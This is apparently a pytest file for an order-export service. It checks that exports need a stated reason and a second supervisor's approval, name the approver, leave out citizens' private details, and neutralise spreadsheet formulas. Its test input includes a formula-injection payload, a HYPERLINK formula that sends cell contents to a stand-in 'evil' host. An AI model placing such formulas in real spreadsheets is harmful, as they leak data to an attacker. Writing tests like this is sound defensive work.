"""Orders taken out of the house: only after a second person agreed, whose name is on it, and never with a formula."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cti.access import Role
from tests.cti.web.order_site import order_site

EVIL = '=HYPERLINK("http://evil/?"&A1,"点这里")'


@pytest.mark.requirement("Y-58")
async def test_orders_leave_only_with_approval_without_the_citizen_and_without_formulas(tmp_path: Path) -> None:
    async with order_site(tmp_path, "yangling") as here:
        number = await here.opened(fields={"title": EVIL, "place": "@SUM(1+1)"})
        asker = await here.supervisor()
        wish = {"what": "orders", "wanted": {"words": ""}}
        assert (await asker.post("/api/exports", wish)).json()["code"] == "no_reason"
        asked = (await asker.post("/api/exports", {**wish, "reason": "月度通报"})).json()
        assert asked["state"] == "waiting"
        path = f"/api/exports/{asked['id']}"
        assert (await asker.get(f"{path}/file.xlsx")).status_code == 403
        other = await here.site.sign_in("另一位班长", Role.SUPERVISOR)
        assert (await other.post(f"{path}/decision", {"approve": True})).status_code == 200
        taken = await asker.get(f"{path}/file.xlsx")
        assert taken.status_code == 200
        sheet = load_workbook(io.BytesIO(taken.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells)
        words = "\n".join(str(cell.value) for cell in cells)
        assert number in words
        assert "HYPERLINK" in words, "what was written is there, as text"
        assert not any(str(cell.value).startswith(("=", "@", "+", "-")) for cell in cells)
        assert "审批人 另一位班长" in words, "the approver stands on it"
        for private in ("王小明", "13812345678"):
            assert private not in words
        assert (await (await here.agent()).post("/api/exports", wish)).status_code == 403
